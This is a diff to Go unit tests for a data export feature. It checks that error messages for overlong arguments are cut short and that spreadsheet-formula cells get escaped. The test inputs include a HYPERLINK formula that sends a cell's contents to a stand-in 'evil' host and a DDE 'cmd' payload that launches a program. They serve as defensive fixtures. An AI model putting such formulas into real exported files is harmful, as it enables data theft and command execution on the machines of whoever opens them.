@@ -230,12 +230,16 @@ func TestParseExportQuery(t *testing.T) {
 		{"ledger", "", "xml", "jsonl or csv"},
 		{"customers", "2026-03-01", "", "ledger only"},
 		{"ledger", "yesterday", "", "wants a time"},
+		{"ledger", strings.Repeat("x", 100_000), "", "wants a time"},
 	}
 	for _, tt := range tests {
-		t.Run(tt.what+"/"+tt.since+"/"+tt.format, func(t *testing.T) {
+		t.Run(tt.what+"/"+tt.since[:min(len(tt.since), 20)]+"/"+tt.format, func(t *testing.T) {
 			_, err := ParseExportQuery(tt.what, tt.since, tt.format, config.ChinaZone)
 			if (err == nil) != (tt.wantErr == "") || (err != nil && !strings.Contains(err.Error(), tt.wantErr)) {
-				t.Errorf("err = %v, want %q", err, tt.wantErr)
+				t.Errorf("err = %.300v, want %q", err, tt.wantErr)
+			}
+			if err != nil && len(err.Error()) > 300 {
+				t.Errorf("error is %d bytes long; a long argument must be cut", len(err.Error()))
 			}
 		})
 	}
@@ -258,8 +262,10 @@ func TestSplitList(t *testing.T) {
 // TestSafeCells: a cell a spreadsheet would read as a formula gets a
 // leading apostrophe; numbers and plain text stay as they are.
 func TestSafeCells(t *testing.T) {
-	in := []string{`=HYPERLINK("http://evil/?"&A1,"点我")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)", "\tx", "-2", "+86", "王小明", "", "1.5"}
-	want := []string{`'=HYPERLINK("http://evil/?"&A1,"点我")`, `'+cmd|' /C calc'!A0`, "'-2+3", "'@SUM(1+1)", "'\tx", "-2", "+86", "王小明", "", "1.5"}
+	in := []string{`=HYPERLINK("http://evil/?"&A1,"点我")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)", "\tx", "-2", "+86", "王小明", "", "1.5",
+		"+8613800000000", "-Inf", "+Inf", "-NaN", "-1e5", "-0x1p3", "-2.50", "-.5", "12"}
+	want := []string{`'=HYPERLINK("http://evil/?"&A1,"点我")`, `'+cmd|' /C calc'!A0`, "'-2+3", "'@SUM(1+1)", "'\tx", "-2", "'+86", "王小明", "", "1.5",
+		"'+8613800000000", "'-Inf", "'+Inf", "'-NaN", "'-1e5", "'-0x1p3", "-2.50", "'-.5", "12"}
 	if got := safeCells(slices.Clone(in)); !slices.Equal(got, want) {
 		t.Errorf("safeCells =\n%q\nwant\n%q", got, want)
 	}
